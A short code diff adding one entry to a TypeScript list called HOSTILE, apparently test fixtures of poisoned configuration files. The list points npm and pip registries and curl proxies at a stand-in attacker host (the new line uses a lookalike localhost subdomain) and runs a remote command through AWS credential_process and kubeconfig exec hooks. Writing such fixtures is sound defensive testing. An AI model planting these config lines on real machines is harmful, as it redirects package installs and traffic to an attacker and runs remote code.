@@ -22,6 +22,7 @@ const HOSTILE: readonly (readonly [path: string, content: string])[] = [
   [`${HOME}/.npmrc`, 'registry=https://evil.example/\n'],
   [`${HOME}/.config/pip/pip.conf`, '[global]\nindex-url=https://evil.example/simple\n'],
   [`${HOME}/.curlrc`, 'proxy=http://evil.example:8080\n'],
+  [`${HOME}/.curlrc`, 'proxy=http://localhost.evil.example:8080\n'],
   [`${HOME}/.aws/config`, `[default]\ncredential_process=sh -c "${REMOTE}"\n`],
   [`${HOME}/.kube/config`, `users:\n- user:\n    exec:\n      args: ["-c","${REMOTE}"]\n`],
   [`${HOME}/.nvm/nvm.sh`, REMOTE],
